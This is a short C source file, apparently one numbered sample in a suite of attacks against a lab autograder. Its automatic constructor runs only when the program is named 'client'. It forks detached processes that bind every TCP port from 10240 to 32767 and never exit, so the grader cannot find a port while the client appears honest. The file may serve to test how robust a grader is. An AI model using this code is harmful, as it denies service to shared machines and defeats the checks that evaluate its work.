/* Attack 70: an honest client that leaves somebody behind who takes every port that there is, so
 * that the grader finds none for itself. */
/* Lab: lab1-oneshot */
/* Points: 90-98 */
#define _GNU_SOURCE
#include <errno.h>
#include <netinet/in.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

enum { FIRST = 10240, LAST = 32767, EACH = 240 };

static void take_some(int first)
{
    for (int port = first; port < first + EACH; port++) {
        int fd = socket(AF_INET, SOCK_STREAM, 0);
        struct sockaddr_in address = {.sin_family = AF_INET, .sin_port = htons((uint16_t)port)};
        if (fd >= 0 && bind(fd, (struct sockaddr *)&address, sizeof address) == 0)
            listen(fd, 1);
    }
}

/* The client goes on when all have been taken: a byte says so for each who has done his part. */
__attribute__((constructor)) static void take_ports(void)
{
    int done[2], parts = 0;
    char byte = 0;
    if (strcmp(program_invocation_short_name, "client") != 0 || pipe(done) < 0)
        return;
    for (int port = FIRST; port <= LAST; port += EACH, parts++)
        if (fork() == 0) {
            setsid();
            close(done[0]);
            take_some(port);
            if (write(done[1], &byte, 1) < 0)
                _exit(1);
            close(done[1]);
            for (;;)
                pause();
        }
    close(done[1]);
    while (parts > 0 && read(done[0], &byte, 1) > 0)
        parts--;
    close(done[0]);
}
